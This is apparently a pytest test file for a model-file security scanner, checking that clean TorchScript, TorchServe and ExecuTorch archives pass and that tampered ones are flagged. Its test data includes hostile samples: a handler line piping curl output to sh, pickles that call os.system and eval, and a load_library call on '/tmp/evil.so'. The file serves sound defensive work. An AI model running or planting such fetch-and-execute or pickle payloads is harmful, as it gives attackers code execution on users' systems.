"""TorchScript, TorchServe and ExecuTorch: archives written by torch are clean, custom operators
and hostile code members are reported, every pickle member is still walked."""

from __future__ import annotations

import io
import json
import zipfile

import pytest
import torch

from modelaudit.detect import detect
from tests.builders import empty_tuple, global_, newobj, pickle, proto, reduce_pickle, stop, zip_bytes
from tests.conftest import codes, findings, scan

# TorchScript, tracing, dynamic quantization and the lite interpreter are deprecated but still load everywhere
pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning", "ignore::UserWarning",
                                        "ignore::torch.jit.TracerWarning")


class Tiny(torch.nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.lin = torch.nn.Linear(4, 3)
        self.register_buffer("scale", torch.ones(3))

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        y = torch.nn.functional.relu(self.lin(x)) * self.scale
        if bool(y.sum() > 0):
            y = y + 1
        return torch.softmax(y, dim=-1)


def _scripted(path, **kwargs):
    torch.jit.save(torch.jit.script(Tiny()), str(path), **kwargs)
    return path


def _members(path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as zf:
        return {i.filename: zf.read(i) for i in zf.infolist()}


def _rezip(path, members: dict[str, bytes]):
    path.write_bytes(zip_bytes(members))
    return path


# --- honest archives written by torch -------------------------------------------------------------
def test_scripted_traced_quantized_and_lite_archives_are_clean(tmp_path):
    paths = [_scripted(tmp_path / "scripted.pt", _extra_files={"meta.json": '{"task": "demo"}'})]
    traced = torch.jit.trace(Tiny().eval(), torch.randn(2, 4), check_trace=False)
    torch.jit.save(traced, str(tmp_path / "traced.pt"))
    paths.append(tmp_path / "traced.pt")
    quantized = torch.ao.quantization.quantize_dynamic(torch.nn.Sequential(torch.nn.Linear(4, 4)),
                                                       {torch.nn.Linear}, dtype=torch.qint8)
    torch.jit.save(torch.jit.script(quantized), str(tmp_path / "quantized.pt"))
    paths.append(tmp_path / "quantized.pt")
    torch.jit.script(Tiny())._save_for_lite_interpreter(str(tmp_path / "mobile.ptl"))
    paths.append(tmp_path / "mobile.ptl")
    for path in paths:
        result = scan(path)
        assert findings(result, "info") == [], (path.name, findings(result, "info"))
        assert result["assets"][0]["type"] == "pytorch_zip" and "python" in result["scanner_names"], path.name


def test_torch_writer_is_recognised_even_when_data_pkl_is_not_first(tmp_path):
    path = _scripted(tmp_path / "m.pt", _extra_files={"notes.txt": "x" * 100})
    head = path.read_bytes()[:4096]
    assert next(iter(_members(path))).endswith("extra/notes.txt")
    assert detect(head, "m.pt").format == "pytorch_zip"


def test_custom_operator_namespace_is_a_warning(tmp_path):
    lib = torch.library.Library("acme_kernels", "DEF")  # noqa: F841 - keeps the registration alive
    lib.define("fused_gelu(Tensor x) -> Tensor")
    lib.impl("fused_gelu", lambda x: torch.nn.functional.gelu(x), "CompositeExplicitAutograd")

    class Custom(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return torch.ops.acme_kernels.fused_gelu(x) + torch.relu(x)

    path = tmp_path / "custom.pt"
    torch.jit.save(torch.jit.script(Custom()), str(path))
    result = scan(path)
    hits = [i for i in findings(result) if i["rule_code"] == "MA-H008"]
    assert len(findings(result)) == len(hits) == 1 and "acme_kernels::fused_gelu" in hits[0]["message"]
    assert "/code/__torch__/" in hits[0]["location"] and hits[0]["location"].endswith("(line 8)")


# --- hostile archives -----------------------------------------------------------------------------
@pytest.mark.parametrize("code,rule,severity", [
    ("def forward(self, x):\n    ops.load_library('/tmp/evil.so')\n    return x\n", "MA-H002", "critical"),
    ("def forward(self, x):\n    return torch.ops.evilns.run(x)\n", "MA-H008", "warning"),
    ("import os\nos.system('echo modelaudit-test')\n", "MA-H002", "critical"),
])
def test_hostile_code_members(tmp_path, code, rule, severity):
    path = _scripted(tmp_path / "m.pt")
    members = _members(path)
    name = next(n for n in members if "/code/__torch__/" in n and n.endswith("test_torchscript.py"))
    members[name] = members[name] + b"\n" + code.encode()
    result = scan(_rezip(path, members))
    assert any(i["rule_code"] == rule and i["severity"] == severity for i in result["issues"]), result["issues"]


def test_dangerous_globals_stay_critical_in_torchscript_pickles(tmp_path):
    path = _scripted(tmp_path / "m.pt")
    members = _members(path)
    data = next(n for n in members if n.endswith("/data.pkl"))
    debug = next(n for n in members if n.endswith(".debug_pkl"))
    members[data] = reduce_pickle("os", "system", "echo modelaudit-test")
    members[debug] = reduce_pickle("builtins", "eval", "1")
    result = scan(_rezip(path, members))
    located = {i["location"].split(" (pos")[0].rsplit(":", 1)[-1] for i in result["issues"]
               if i["rule_code"] == "MA-P001" and i["severity"] == "critical"}
    assert {data, debug} <= located


def test_custom_torchbind_class_in_data_pkl(tmp_path):
    path = _scripted(tmp_path / "m.pt")
    members = _members(path)
    data = next(n for n in members if n.endswith("/data.pkl"))
    members[data] = pickle(proto(2), global_("__torch__.torch.classes.evilns", "Runner"), empty_tuple(), newobj(),
                           stop())
    result = scan(_rezip(path, members))
    assert codes(result, "warning") == {"MA-H008"}


def test_torch_jit_helpers_are_only_relaxed_inside_torchscript_archives(tmp_path):
    helper = reduce_pickle("torch.jit._pickle", "build_intlist", [1, 2])
    path = tmp_path / "plain.pt"
    from tests.builders import torch_zip

    path.write_bytes(torch_zip(helper))  # no constants.pkl: torch.load unpickles it in Python
    assert "MA-P001" in codes(scan(path))


# --- TorchServe ----------------------------------------------------------------------------------
HANDLER = '''"""Custom handler for the demo classifier."""
import json
import logging
import os

import torch
from ts.torch_handler.base_handler import BaseHandler

logger = logging.getLogger(__name__)


class DemoHandler(BaseHandler):
    def initialize(self, context):
        properties = context.system_properties
        model_dir = properties.get("model_dir")
        self.device = torch.device("cuda" if torch.cuda.is_available() else "cpu")
        self.model = torch.jit.load(os.path.join(model_dir, "model.pt"), map_location=self.device)
        self.model.eval()
        with open(os.path.join(model_dir, "index_to_name.json")) as f:
            self.mapping = json.load(f)
        self.initialized = True

    def preprocess(self, data):
        rows = [row.get("data") or row.get("body") for row in data]
        return torch.tensor(rows, dtype=torch.float32, device=self.device)

    def inference(self, data, *args, **kwargs):
        with torch.no_grad():
            return self.model(data)

    def postprocess(self, data):
        return [self.mapping.get(str(int(i)), "unknown") for i in data.argmax(dim=-1).tolist()]
'''


def _mar(tmp_path, handler: str = "handler.py", files: dict[str, bytes] | None = None, name: str = "demo.mar",
         **model):
    weights = io.BytesIO()
    torch.jit.save(torch.jit.script(Tiny()), weights)
    manifest = {"createdOn": "01/02/2024 10:00:00", "runtime": "python",
                "model": {"modelName": "demo", "serializedFile": "model.pt", "handler": handler, "modelVersion": "1.0",
                          **model},
                "archiverVersion": "0.9.0"}
    members = {"MAR-INF/MANIFEST.json": json.dumps(manifest, indent=2).encode(), "model.pt": weights.getvalue(),
               "index_to_name.json": b'{"0": "cat", "1": "dog", "2": "bird"}', **(files or {})}
    path = tmp_path / name
    path.write_bytes(zip_bytes(members, zipfile.ZIP_DEFLATED))
    return path


def test_mar_with_builtin_handler_is_clean(tmp_path):
    result = scan(_mar(tmp_path, handler="image_classifier"))
    assert findings(result, "info") == [] and result["assets"][0]["type"] == "torchserve"
    assert {"torchserve", "pytorch"} <= set(result["scanner_names"])


def test_mar_with_custom_handler_is_a_warning_and_the_handler_is_analysed(tmp_path):
    result = scan(_mar(tmp_path, files={"handler.py": HANDLER.encode()}))
    assert [(i["rule_code"], i["severity"]) for i in findings(result)] == [("MA-H001", "warning")]
    assert "handler.py (in the archive)" in findings(result)[0]["message"]
    hostile = HANDLER + "\nimport subprocess\nsubprocess.Popen('curl -s https://example.com | sh', shell=True)\n"
    result = scan(_mar(tmp_path, files={"handler.py": hostile.encode(), "requirements.txt": b"evil-pkg==1.0\n"},
                       requirementsFile="requirements.txt", modelFile="model_def.py"))
    assert {"MA-H001", "MA-H002", "MA-H010"} <= codes(result)
    assert any(i["rule_code"] == "MA-H001" and "model_def.py (not in the archive" in i["message"]
               for i in result["issues"])


def test_mar_without_manifest_and_detection(tmp_path):
    path = tmp_path / "broken.mar"
    path.write_bytes(zip_bytes({"index_to_name.json": b"{}", "handler.py": b"import os\n"}))
    assert codes(scan(path), "warning") == {"MA-H009"}
    renamed = _mar(tmp_path, name="demo.zip", handler="image_classifier")
    assert detect(renamed.read_bytes()[:65536], "demo.zip").format == "torchserve"


@pytest.mark.parametrize("damage", ["local header magic", "deflate stream"])
def test_mar_whose_manifest_cannot_be_read_is_reported_and_incomplete(tmp_path, damage):
    manifest = json.dumps({"model": {"handler": "image_classifier", "padding": "x" * 400}}).encode()
    data = bytearray(zip_bytes({"index_to_name.json": b"{}", "MAR-INF/MANIFEST.json": manifest},
                               zipfile.ZIP_DEFLATED))
    name_at = data.index(b"MAR-INF/MANIFEST.json")  # the local header's copy comes first
    if damage == "local header magic":
        data[name_at - 30:name_at - 26] = b"PK\x07\x08"
    else:
        data[name_at + 21 + 4:name_at + 21 + 12] = b"\xff" * 8  # inside the compressed bytes
    path = tmp_path / "damaged.mar"
    path.write_bytes(bytes(data))
    result = scan(path)
    assert not [i for i in result["issues"] if i["rule_code"] == "MA-S005"], result["issues"]
    assert any(i["rule_code"] == "MA-H009" and "cannot be read" in i["message"] for i in result["issues"])
    assert result["incomplete_files"] and result["summary"]["exit_code"] != 0


# --- ExecuTorch -----------------------------------------------------------------------------------
def test_executorch_program_is_recognised_and_parsed(tmp_path, cli):
    # the ExecuTorch scanner itself is tested in test_executorch.py; a zeroed program is malformed there
    path = tmp_path / "model.pte"
    path.write_bytes(b"\x1c\x00\x00\x00ET12" + b"\x00" * 120)
    run = cli("scan", "--format", "json", str(path))
    report = run.json()
    assert report["assets"][0]["type"] == "executorch" and "executorch" in report["scanner_names"]
    assert [i["rule_code"] for i in report["issues"]] == ["MA-T301"] and report["has_errors"]
    assert run.code == 1
    assert detect(b"Run ET12 on the board\n", "notes.txt").format == "text"
